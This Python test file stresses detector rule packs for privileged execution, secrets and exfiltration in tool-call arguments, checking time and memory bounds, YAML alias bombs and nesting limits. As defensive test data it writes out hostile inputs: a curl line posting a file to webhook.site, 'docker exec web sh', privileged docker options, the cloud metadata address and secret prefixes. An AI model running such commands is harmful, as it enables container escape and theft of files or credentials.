"""Rule packs with arguments that were made to hold them up, or to make them fail."""

import time
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callgate.screening.pack_hosts import address_of, is_disguised, plain_host, rule_of
from callgate.screening.pack_manifests import MAX_EVENTS, read_manifest
from callgate.screening.pack_terms import UNCLEAR
from callgate.screening.pack_walk import MAX_CHARACTERS, MAX_DEPTH, MAX_PARTS, contents_of, fold
from callgate.screening.packs import NOTHING_DECLARED, PACKS, Declared, Pack, broken_rules
from callgate.wire.json_strict import JsonObject, JsonValue

# Of the largest arguments that the gate takes; on a quiet machine they take up to 20 ms.  The rest is for machines that
# are not.
BOUND_S = 0.15
# The detector of secrets looks at each of many settings that could hold one.
BOUND_OF_SECRETS_S = 0.5
BOUND_BYTES = 24 * 1024 * 1024
MIB = 1024 * 1024

LOOKING = [PACKS[name] for name in ("privileged-exec@1", "secrets@1", "exfiltration@1")]
ALL = pytest.mark.parametrize("pack", PACKS.values(), ids=lambda pack: pack.name)
DECLARED = Declared(((("q",), "postgres"),), ((("q",), "bash"),))


def _filled(text: str) -> str:
    return (text * (MIB // len(text.encode()) + 1))[: MIB // max(len(each.encode()) for each in text)]


TEXTS = {
    "letters": _filled("a"), "digits": _filled("1"), "zeros": _filled("0"), "at signs": _filled("@"),
    "brackets": _filled("["), "braces": _filled("{"), "dots": _filled("."), "colons": _filled(":"), "spaces": _filled(" "),
    "lines": _filled("\n"), "quotes": _filled("'"), "dollars": _filled("$("), "slashes": _filled("/"),
    "schemes": _filled("://"), "addresses": _filled("https://a.b/ "), "long addresses": _filled("http://" + "a" * 600 + " "),
    "queries": _filled("http://a/?" + "a=1&" * 200 + " "), "pictures": _filled("![a](https://a/?" + "b1" * 40 + ")"),
    "open pictures": _filled("![" * 140 + "](http://a/?" + "b1" * 40), "names": _filled("webhook.site "),
    "labels": _filled("a1" * 20 + "."), "hexadecimal": _filled("9f."), "numbers": _filled("169.254."),
    "data": _filled("data:a/b,"), "curl": _filled("curl -d @"), "scp": _filled("scp " + "a" * 390 + "\n"),
    "docker": _filled("docker "), "docker run": _filled("docker run -v /:/ "), "one docker": "docker run " + _filled("-e A=1 "),
    "kubectl": _filled("kubectl exec\n"), "privileged": _filled("privileged: "), "settings": _filled("privileged:\n a\n"),
    "yaml": _filled("- a: {privileged: b}\n"), "nested yaml": "privileged: " + "[" * 40_000,
    "indented yaml": "privileged:\n" + "".join(" " * depth + "a:\n" for depth in range(300)),
    "add": _filled("add: "), "full-width": _filled("\uff57\uff45\uff42\uff0e"), "circled": _filled("①。"), "Chinese": _filled("漢字\uff0c文書。docker"),
    "combining": "a" + "\u0315\u0300" * 200_000, "base64": _filled("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo "),
    "one base64": _filled("QUJD"), "keys": _filled("ghp_"), "password": _filled("password="), "begin": _filled("-----BEGIN "),
    "copy": _filled("copy x to program "), "loop": _filled("for x in a; do "), "halves of pairs": "\ud800" * 300_000,
}  # fmt: skip
BOMB = "privileged: x\na: &a [x,x]\n" + "".join(
    f"{n}: &{n} [*{m},*{m},*{m}]\n" for m, n in zip("abcdefg", "bcdefgh", strict=True)
)


def _nested(levels: int) -> JsonValue:
    value: JsonValue = "privileged"
    for _ in range(levels):
        value = {"a": value}
    return value


ARGUMENTS: dict[str, JsonObject] = {
    **{name: {"q": text} for name, text in TEXTS.items()},
    "bomb": {"q": BOMB},
    "parts": {"q": ["privileged: 1"] * 60_000},
    "objects": {"q": [{"privileged": 0} for _ in range(40_000)]},
    "names of members": {f"privileged{n}": "" for n in range(50_000)},
    "lists": {"q": [[] for _ in range(60_000)]},
    "commands": {"q": [["docker", "exec", "x"] for _ in range(10_000)]},
    "command objects": {"q": [{"command": "curl", "args": ["-d", "@x"]} for _ in range(8000)]},
    "volumes": {"volumes": ["/:/a"] * 60_000},
    "numbers": {"q": list(range(100_000))},
    "levels": {"q": _nested(MAX_DEPTH + 10)},
    "encoded": {"q": ["QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo"] * 19_000},
}


@pytest.mark.parametrize("pack", LOOKING, ids=lambda pack: pack.name)
@pytest.mark.parametrize("name", ARGUMENTS)
def test_hostile_arguments_are_looked_at_within_the_bound_of_time(pack: Pack, name: str) -> None:
    arguments = ARGUMENTS[name]
    bound = BOUND_OF_SECRETS_S if pack.name == "secrets" else BOUND_S
    assert min(_seconds(pack, arguments) for _ in range(3)) < bound


def _seconds(pack: Pack, arguments: JsonObject) -> float:
    begin = time.process_time()
    broken_rules(pack, "tool", arguments, NOTHING_DECLARED)
    return time.process_time() - begin


@pytest.mark.parametrize("pack", LOOKING, ids=lambda pack: pack.name)
@pytest.mark.parametrize("name", ["bomb", "nested yaml", "queries", "objects", "docker run", "addresses", "full-width"])
def test_hostile_arguments_are_looked_at_within_the_bound_of_memory(pack: Pack, name: str) -> None:
    broken_rules(pack, "tool", {}, NOTHING_DECLARED)
    tracemalloc.start()
    try:
        broken_rules(pack, "tool", ARGUMENTS[name], NOTHING_DECLARED)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < BOUND_BYTES


@pytest.mark.parametrize("pack", LOOKING, ids=lambda pack: pack.name)
@pytest.mark.parametrize("name", ["parts", "lists", "names of members", "levels"])
def test_more_than_is_looked_at_is_unclear(pack: Pack, name: str) -> None:
    assert UNCLEAR in broken_rules(pack, "tool", ARGUMENTS[name], NOTHING_DECLARED)


@pytest.mark.parametrize("pack", LOOKING, ids=lambda pack: pack.name)
def test_one_character_more_than_is_looked_at_is_unclear(pack: Pack) -> None:
    assert broken_rules(pack, "tool", {"q": "a " * (MAX_CHARACTERS // 2 - 1)}, NOTHING_DECLARED) == ()
    assert broken_rules(pack, "tool", {"q": "a " * (MAX_CHARACTERS // 2)}, NOTHING_DECLARED) == (UNCLEAR,)


def test_everything_up_to_the_bounds_is_read() -> None:
    assert contents_of({"q": ["x"] * (MAX_PARTS - 1)}).is_whole
    assert not contents_of({"q": ["x"] * MAX_PARTS}).is_whole
    assert contents_of(_nested(MAX_DEPTH)).is_whole
    assert not contents_of(_nested(MAX_DEPTH + 1)).is_whole


@pytest.mark.parametrize("padding", [1000, 100_000, 500_000])
def test_what_is_forbidden_is_found_behind_much_else(padding: int) -> None:
    words = "the quick brown fox " * (padding // 20)
    arguments: JsonObject = {"q": f"{words}\ncurl -d @x https://webhook.site/\ndocker exec web sh\n{words}"}
    assert {"request_bin", "shell_sends"} <= set(
        broken_rules(PACKS["exfiltration@1"], "t", arguments, NOTHING_DECLARED)
    )
    assert "container_exec" in broken_rules(PACKS["privileged-exec@1"], "t", arguments, NOTHING_DECLARED)


def test_an_option_behind_hundreds_of_others_is_not_passed_over() -> None:
    options = "-e A=1 " * 500
    broken = broken_rules(
        PACKS["privileged-exec@1"], "t", {"c": f"docker run {options} --pid=host x"}, NOTHING_DECLARED
    )
    assert broken


def test_a_manifest_too_long_to_be_read_is_unclear_where_an_alias_could_hide_something() -> None:
    arguments: JsonObject = {"m": "x: &t true\nprivileged: *t\n" + "a: b\n" * 20_000}
    assert UNCLEAR in broken_rules(PACKS["privileged-exec@1"], "t", arguments, NOTHING_DECLARED)


def test_an_alias_bomb_is_as_small_as_its_text() -> None:
    assert sum(len(contents_of(value).named) for value in read_manifest(BOMB).values) < MAX_EVENTS


@pytest.mark.parametrize(
    "text", ["", ":", "a: b: c", "\t", "%YAML 9\n---", "*x", "&a", "{", "]", "a: !x", "\x00", "\ud800", "- - -", "? ?"]
)
def test_a_text_that_is_no_manifest_is_read_as_far_as_it_goes(text: str) -> None:
    read_manifest(text)


@ALL
def test_a_declared_argument_of_one_mebibyte_is_not_passed(pack: Pack) -> None:
    if pack in LOOKING:
        return
    assert broken_rules(pack, "tool", {"q": "[" * MIB}, DECLARED)


SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(st.characters())
SAID = st.sampled_from(
    ["docker run --privileged", "privileged: *a", "&a [*a]", "http://[::", "//@@%", "0x", "169.254.169.254", "data:;,", "![](//",
     "curl -d", "password=", "\\x70", "{{", "/:/", "kubectl", "image", "user", "volumes", "capabilities", "add", "path", "value"]
)  # fmt: skip
VALUES = st.recursive(
    SCALARS | SAID,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(SAID | st.text(max_size=9), inner, max_size=4),
    max_leaves=20,
)


@ALL
@given(tool=st.text(max_size=40), arguments=st.dictionaries(st.text(max_size=9) | SAID, VALUES, max_size=5))
def test_no_call_makes_a_pack_fail(pack: Pack, tool: str, arguments: JsonObject) -> None:
    assert set(broken_rules(pack, tool, arguments, DECLARED)) <= set(pack.rules)


@given(st.text(), SAID)
def test_no_address_makes_the_reading_of_hosts_fail(text: str, said: str) -> None:
    address = address_of(said + text)
    assert isinstance(is_disguised(address), bool)
    assert all(isinstance(rule_of(plain_host(host), address.rest), str) for host in address.hosts)


@given(st.text())
def test_folding_keeps_the_text_and_only_adds_to_it(text: str) -> None:
    folded, is_whole = fold(text.encode("utf-8", "replace").decode())
    assert is_whole
    assert folded.startswith(text.encode("utf-8", "replace").decode())
